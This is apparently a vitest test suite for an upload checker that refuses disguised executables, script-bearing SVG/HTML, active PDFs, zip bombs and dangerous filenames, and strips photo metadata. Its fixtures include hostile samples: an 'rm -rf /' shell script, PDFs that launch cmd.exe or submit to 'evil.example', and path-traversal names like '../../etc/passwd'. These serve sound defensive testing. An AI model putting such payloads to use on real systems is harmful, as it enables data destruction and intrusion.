import { mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import sharp from 'sharp'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { checkFile, mostBytes } from '#domain/file/file-checks.ts'
import { keepFile, openFiles, readKeptFile } from '#outside/files.ts'
import { eicar, heic, packed, pdf } from '#test/papers.ts'

const dir = mkdtempSync(join(tmpdir(), 'papers-'))
beforeAll(() => openFiles({ dir, clamd: null }))
afterAll(() => rmSync(dir, { recursive: true }))
const latin = (text: string) => Buffer.from(text, 'latin1')
const script = '<script>alert(1)</script>'
const zip = latin('PK\u0003\u0004 inside PK\u0005\u0006'.padEnd(60, '\0'))
const photo = (place = 'x') =>
  sharp({ create: { width: 40, height: 30, channels: 3, background: '#888' } })
    .withExif({ IFD0: { Make: 'Telefon', ImageDescription: place }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '47/1 2/1 20/1' } })
    .jpeg()
    .toBuffer()
const drawing = () =>
  sharp({ create: { width: 10, height: 10, channels: 3, background: '#fff' } })
    .png()
    .toBuffer()

const refusedBy: Record<string, () => [string, Buffer | Promise<Buffer>, string]> = {
  nothing: () => ['leer.pdf', Buffer.alloc(0), 'file_empty'],
  '200 MB': () => ['gross.pdf', Buffer.alloc(200_000_000), 'file_too_large'],
  'one byte too much': () => ['gross.pdf', Buffer.concat([latin('%PDF-'), Buffer.alloc(mostBytes)]), 'file_too_large'],
  'a program called .pdf': () => [
    'Rechnung.pdf',
    latin('MZ\u0090\0\u0003\0\0\0\u0004\0 This program cannot be run in DOS mode'),
    'file_type',
  ],
  'an ELF program called .jpg': () => ['foto.jpg', latin('\u007fELF\u0002\u0001\u0001'), 'file_type'],
  'a shell script': () => ['beleg.pdf', latin('#!/bin/sh\nrm -rf /'), 'file_type'],
  'an SVG with a script': () => ['bild.svg', latin(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`), 'file_type'],
  'an SVG called .png': () => ['bild.png', latin(`<?xml version="1.0"?><svg>${script}</svg>`), 'file_type'],
  'a page': () => ['seite.html', latin(`<!doctype html>${script}`), 'file_type'],
  'a page called .pdf': () => ['seite.pdf', latin(`<html>${script}%PDF-1.4 %%EOF`), 'file_type'],
  'a PDF that begins later': () => ['x.pdf', Buffer.concat([latin('MZ'), pdf()]), 'file_type'],
  'a zip': () => ['x.zip', zip, 'file_type'],
  'a Word file called .pdf': () => ['x.pdf', zip, 'file_type'],
  'a GIF': () => ['x.gif', latin('GIF89a'), 'file_type'],
  'a TIFF': () => ['x.tif', latin('II*\0'), 'file_type'],
  'an EPS': () => ['x.eps', latin('%!PS-Adobe-3.0 EPSF-3.0'), 'file_type'],
  'a film called .heic': () => ['x.heic', latin('\0\0\0\u0018ftypisom\0\0\0\0'), 'file_type'],
  'the test virus': () => ['x.com', latin(eicar), 'file_type'],
  'a PDF without an end': () => ['x.pdf', latin('%PDF-1.4\n1 0 obj\n'), 'file_broken'],
  'half a photograph': () => ['x.jpg', photo().then(one => one.subarray(0, 200)), 'file_broken'],
  'three bytes of a photograph': () => ['x.jpg', latin('\u00ff\u00d8\u00ff'), 'file_broken'],
  'a PNG that is a page': () => ['x.png', Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), latin(script)]), 'file_broken'],
  'HEIC with a rest': () => ['x.heic', Buffer.concat([heic('a'), latin('PK')]), 'file_broken'],
  'HEIC and a page in one': () => ['x.heic', Buffer.concat([heic('a'), latin('\0\0\0\u0020html'), Buffer.alloc(24)]), 'file_broken'],
  'HEIC of lies': () => [
    'x.heic',
    Buffer.concat([latin('\0\0\0\u000cftypheic'), latin('\0\0\0\u0010meta\0\0\0\0\0\0\0\0')]),
    'file_broken',
  ],
  'PDF and zip in one': () => ['x.pdf', pdf({ after: zip.toString('latin1') }), 'file_two_in_one'],
  'PDF with a zip within': () => ['x.pdf', pdf({ streams: [{ dictionary: '', body: zip }] }), 'file_two_in_one'],
  'PDF and a page in one': () => ['x.pdf', pdf({ after: script }), 'file_two_in_one'],
  'PDF with JavaScript': () => ['x.pdf', pdf({ objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] }), 'file_active'],
  'PDF with JavaScript in disguise': () => ['x.pdf', pdf({ objects: ['<< /S /J#61va#53cript /#4aS (app.alert(1)) >>'] }), 'file_active'],
  'PDF with packed JavaScript': () => [
    'x.pdf',
    pdf({ streams: [packed('/Type /ObjStm /N 1 /First 4', '7 0 << /S /JavaScript /JS (a) >>')] }),
    'file_active',
  ],
  'PDF that only says JS': () => ['x.pdf', pdf({ objects: ['<< /JS (a) >>'] }), 'file_active'],
  'PDF that acts on opening': () => [
    'x.pdf',
    pdf({ root: '/OpenAction 4 0 R', objects: ['<< /S /URI /URI (http://evil.example) >>'] }),
    'file_active',
  ],
  'PDF that acts on turning': () => ['x.pdf', pdf({ objects: ['<< /AA << /O 5 0 R >> >>'] }), 'file_active'],
  'PDF that starts a program': () => ['x.pdf', pdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] }), 'file_active'],
  'PDF with a file in it': () => [
    'x.pdf',
    pdf({ objects: ['<< /Type /Filespec /EF << /F 5 0 R >> >>'], streams: [packed('/Type /EmbeddedFile', 'MZ')] }),
    'file_active',
  ],
  'PDF that sends itself': () => ['x.pdf', pdf({ objects: ['<< /S /SubmitForm /F (http://evil.example) >>'] }), 'file_active'],
  'PDF with a film': () => ['x.pdf', pdf({ objects: ['<< /Subtype /RichMedia >>'] }), 'file_active'],
  'PDF with an XFA form': () => ['x.pdf', pdf({ root: '/AcroForm << /XFA 5 0 R >>' }), 'file_active'],
  'PDF whose objects hide': () => [
    'x.pdf',
    pdf({ streams: [{ dictionary: '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]', body: latin('78') }] }),
    'file_active',
  ],
  'PDF behind a password': () => ['x.pdf', pdf({ objects: ['<< /Encrypt 9 0 R >>'] }), 'file_locked'],
  'PDF that unpacks without end': () => ['x.pdf', pdf({ streams: [packed('', Buffer.alloc(70_000_000))] }), 'file_bomb'],
  'PDF of many bombs': () => [
    'x.pdf',
    pdf({ streams: Array.from({ length: 6 }, () => packed('', Buffer.alloc(50_000_000))) }),
    'file_bomb',
  ],
  'PDF that does not unpack': () => [
    'x.pdf',
    pdf({ streams: [{ dictionary: '/Filter /FlateDecode', body: latin('no deflate') }] }),
    'file_broken',
  ],
  'a name that is a path': () => ['../../etc/passwd', pdf(), 'file_name'],
  'a Windows path': () => ['C:\\Windows\\win.ini', pdf(), 'file_name'],
  'a hidden name': () => ['.htaccess', pdf(), 'file_name'],
  'a name with a zero': () => ['x\0.pdf', pdf(), 'file_name'],
  'a name that is turned round': () => ['rechnung\u202Efdp.exe', pdf(), 'file_name'],
  'no name': () => ['', pdf(), 'file_name'],
}

test.each(Object.keys(refusedBy))('%s is refused with its sentence', async which => {
  const [name, bytes, reason] = refusedBy[which]?.() ?? ['', Buffer.alloc(0), 'no such file']
  await expect(checkFile(name, await bytes)).rejects.toMatchObject({ reason, field: 'file' })
})

test('a picture whose size is a lie is refused before it takes the memory', async () => {
  const png = await drawing()
  png.writeUInt32BE(60_000, 16)
  png.writeUInt32BE(60_000, 20)
  await expect(checkFile('x.png', png)).rejects.toMatchObject({ reason: 'file_broken' })
})

test('a photograph is drawn anew: place, device and whatever hung on it are gone, the picture stays', async () => {
  const taken = Buffer.concat([await photo('Rathausgasse'), latin(`\n${script}`), zip])
  expect(taken.toString('latin1')).toContain('Rathausgasse')
  const { bytes, type, name } = await checkFile('IMG_0042.JPG', taken)
  expect(type).toBe('image/jpeg')
  expect(name).toBe('IMG_0042.jpg')
  for (const rest of ['Rathausgasse', 'Telefon', 'script', 'PK\u0003']) expect(bytes.toString('latin1')).not.toContain(rest)
  const { width, height, exif } = await sharp(bytes).metadata()
  expect({ width, height, exif }).toEqual({ width: 40, height: 30, exif: undefined })
})

test('what a telephone wrote into its HEIC is blanked, the picture beside it stays', async () => {
  const taken = heic('Exif GPS 47.0406 9.0678')
  const { bytes, type } = await checkFile('IMG_1.HEIC', taken)
  expect(type).toBe('image/heic')
  expect(bytes.length).toBe(taken.length)
  expect(bytes.toString('latin1')).not.toContain('GPS')
  expect(bytes.toString('latin1')).toContain('picture data')
})

test('a plain PDF passes as it is, also one that opens at its first page', async () => {
  for (const bytes of [pdf(), pdf({ root: '/OpenAction [3 0 R /Fit]' }), pdf({ streams: [packed('/Type /ObjStm /N 0 /First 0', '')] })])
    expect((await checkFile('Rechnung 2026 – Schule.pdf', bytes)).bytes.equals(bytes)).toBe(true)
})

test('the type is that of the content, whatever the name says', async () => {
  expect(await checkFile('beleg.exe', await drawing())).toMatchObject({ type: 'image/png', name: 'beleg.png' })
})

test('kept bytes lie under their digest, outside of any name, once for the same paper, and are read only unchanged', async () => {
  const bytes = pdf()
  const digest = await keepFile(bytes)
  expect(await keepFile(bytes)).toBe(digest)
  expect(readdirSync(join(dir, digest.slice(0, 2)))).toEqual([digest.slice(2)])
  expect((await readKeptFile(digest)).equals(bytes)).toBe(true)
  await expect(readKeptFile('../../etc/passwd')).rejects.toThrow()
})

/** A scanner that finds the test virus and otherwise nothing, or does not know what to say. */
async function scanner(answer: (bytes: Buffer) => string | null): Promise<{ address: string; server: Server }> {
  const server = createServer(socket => {
    let heard = Buffer.alloc(0)
    socket.on('data', (data: Buffer) => {
      heard = Buffer.concat([heard, data])
      if (heard.subarray(-4).equals(Buffer.alloc(4))) {
        const said = answer(heard)
        socket.end(said ?? '')
      }
    })
  })
  await new Promise<void>(done => server.listen(0, '127.0.0.1', done))
  return { address: `tcp://127.0.0.1:${(server.address() as { port: number }).port}`, server }
}

test('where a scanner is configured nothing passes unscanned, and nothing at all while it is down', async () => {
  const { address, server } = await scanner(heard => {
    expect(heard.subarray(0, 10).toString()).toBe('zINSTREAM\0')
    return heard.includes(eicar) ? 'stream: Eicar-Test-Signature FOUND\0' : 'stream: OK\0'
  })
  openFiles({ dir, clamd: address })
  try {
    expect((await checkFile('a.pdf', pdf())).type).toBe('application/pdf')
    await expect(checkFile('a.pdf', pdf({ streams: [{ dictionary: '', body: latin(eicar) }] }))).rejects.toMatchObject({
      reason: 'file_infected',
    })
    await new Promise(done => server.close(done))
    await expect(checkFile('a.pdf', pdf())).rejects.toMatchObject({ reason: 'scanner_down' })
    const silent = await scanner(() => null)
    openFiles({ dir, clamd: silent.address })
    await expect(checkFile('a.pdf', pdf())).rejects.toMatchObject({ reason: 'scanner_down' })
    silent.server.close()
  } finally {
    openFiles({ dir, clamd: null })
  }
})
